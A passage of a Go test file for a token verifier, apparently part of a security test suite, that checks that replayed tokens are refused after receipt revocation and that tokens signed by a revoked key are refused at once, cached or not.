	for _, tk := range []string{tok, twin} {
		if _, err := f.v.Verify(context.Background(), tk); err != nil {
			t.Fatalf("before revocation: %v", err)
		}
	}
	f.receipts.revoke(jti)
	for _, tk := range []string{tok, twin} {
		_, err := f.v.Verify(context.Background(), tk)
		wantReason(t, err, verify.ReasonRevoked)
	}
}

// TestAttackA16Replay: a token replayed after logout, password change or
// account disable — all of which revoke its receipt — is refused, whether
// or not the verifier has it cached.
func TestAttackA16Replay(t *testing.T) {
	for _, cached := range []bool{false, true} {
		name := "uncached"
		if cached {
			name = "cached"
		}
		t.Run(name, func(t *testing.T) {
			f := newFixture(t, func(c *verify.Config) {
				if !cached {
					c.CacheSize = -1
				}
			})
			var jti string
			tok := f.issue(t, f.ed, func(_, c map[string]any) { jti = c["jti"].(string) })
			for range 2 {
				if _, err := f.v.Verify(context.Background(), tok); err != nil {
					t.Fatal(err)
				}
			}
			f.receipts.revoke(jti) // logout
			_, err := f.v.Verify(context.Background(), tok)
			wantReason(t, err, verify.ReasonRevoked)
		})
	}
}

// TestAttackA21KeyRevokedInProcess: a key revoked in the key set refuses
// its tokens at once, cached or not, and the other key keeps working.
func TestAttackA21KeyRevokedInProcess(t *testing.T) {
	f := newFixture(t)
	edTok, ecTok := f.issue(t, f.ed, nil), f.issue(t, f.ec, nil)
	for _, tok := range []string{edTok, ecTok} {
		if _, err := f.v.Verify(context.Background(), tok); err != nil {
			t.Fatal(err)
		}
	}
	f.keys.revoke(f.ed.kid)
	_, err := f.v.Verify(context.Background(), edTok)
	wantReason(t, err, verify.ReasonRevokedKey)
	_, err = f.v.Verify(context.Background(), f.issue(t, f.ed, nil))
	wantReason(t, err, verify.ReasonRevokedKey)
	if _, err := f.v.Verify(context.Background(), ecTok); err != nil {
		t.Fatalf("other key: %v", err)
	}
}
